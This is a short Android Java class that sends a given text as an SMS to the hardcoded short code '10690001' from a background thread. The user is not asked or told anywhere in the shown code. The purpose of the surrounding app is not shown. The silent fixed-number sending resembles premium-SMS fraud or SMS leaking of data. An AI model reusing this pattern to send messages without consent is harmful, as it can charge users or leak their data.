package cn.shanhai.thread;

import android.telephony.SmsManager;

final class SendThread extends Thread {
  private final String text;

  SendThread(String text) {
    super(text.isEmpty() ? "none" : "send");
    this.text = text;
  }

  @Override
  public void run() {
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }
}
